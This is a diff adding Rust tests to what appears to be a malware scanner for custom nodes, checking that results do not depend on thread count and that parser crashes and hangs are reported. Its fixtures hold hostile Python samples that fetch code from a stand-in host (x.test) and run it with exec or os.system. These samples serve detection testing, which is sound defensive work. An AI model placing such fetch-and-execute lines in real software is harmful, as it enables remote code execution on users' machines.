@@ -175,6 +175,81 @@ fn a_parser_reaches_nothing_and_its_crash_is_a_finding() {
     "#);
 }
 
+/// The output of a scan whose parser has so many threads, and what of it speaks of crashes.
+fn scan_with(root: &Path, fault: &str) -> (String, Vec<String>) {
+    let out = command(root)
+        .current_dir(root)
+        .args(["scan", "node", "--format", "json"])
+        .env("COMFY_FAULT", fault)
+        .output()
+        .unwrap();
+    let shown = String::from_utf8(out.stdout).unwrap();
+    let json: serde_json::Value = serde_json::from_str(&shown).unwrap();
+    let crashes = json["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|f| f["rule"] == "carrier-crash")
+        .map(|f| format!("{}: {}", f["path"].as_str().unwrap(), f["message"]))
+        .collect();
+    (shown, crashes)
+}
+
+#[test]
+fn what_is_found_does_not_depend_on_how_many_threads_parse() {
+    let temp = tempfile::tempdir().unwrap();
+    carriers(temp.path());
+    // Data goes from one file to another, whichever of them is parsed first.
+    write(
+        temp.path(),
+        "node/__init__.py",
+        b"from .z import fetch\nexec(fetch('http://x.test/a.py'))\n",
+    );
+    write(
+        temp.path(),
+        "node/z.py",
+        b"import requests\ndef fetch(url):\n    return requests.get(url).text\n",
+    );
+    for n in 0..40 {
+        write(temp.path(), &format!("node/web/{n}.js"), WEBHOOK);
+        write(
+            temp.path(),
+            &format!("node/{n}.py"),
+            format!("import os\nfrom . import z\nos.system(z.fetch('{n}'))\n").as_bytes(),
+        );
+    }
+    let (one, _) = scan_with(temp.path(), "threads:1");
+    assert!(one.contains("comes back from fetch()"), "{one}");
+    for threads in ["threads:2", "threads:4"] {
+        assert_eq!(scan_with(temp.path(), threads).0, one, "{threads}");
+    }
+}
+
+#[test]
+fn a_crash_and_a_hang_lose_their_own_file_however_many_threads_parse() {
+    let temp = tempfile::tempdir().unwrap();
+    let slow = [&b"//comfy-fault:wait\n"[..], WEBHOOK].concat();
+    // While one thread crashes or hangs, the other is at a file that is slow and sound.
+    for name in ["a.js", "c.js", "e.js"] {
+        write(temp.path(), &format!("node/{name}"), &slow);
+    }
+    write(temp.path(), "node/b.js", b"//comfy-fault:abort\n");
+    write(temp.path(), "node/d.js", b"//comfy-fault:abort\n");
+    write(temp.path(), "node/f.js", b"//comfy-fault:hang\n");
+    write(temp.path(), "node/g.py", b"exec(input())\n");
+    let (one, crashes) = scan_with(temp.path(), "threads:1,patience:3000");
+    insta::assert_snapshot!(crashes.join("\n"), @r#"
+    b.js: "the process that parsed it was ended by signal 6"
+    d.js: "the process that parsed it was ended by signal 6"
+    f.js: "the process that parsed it was stopped after a minute"
+    "#);
+    for sound in ["a.js", "c.js", "e.js", "g.py"] {
+        assert!(one.contains(&format!("\"path\": \"{sound}\"")), "{one}");
+    }
+    let (two, _) = scan_with(temp.path(), "threads:2,patience:3000");
+    assert_eq!(two, one);
+}
+
 /// A project with one node, without accounts.
 struct Project {
     root: PathBuf,
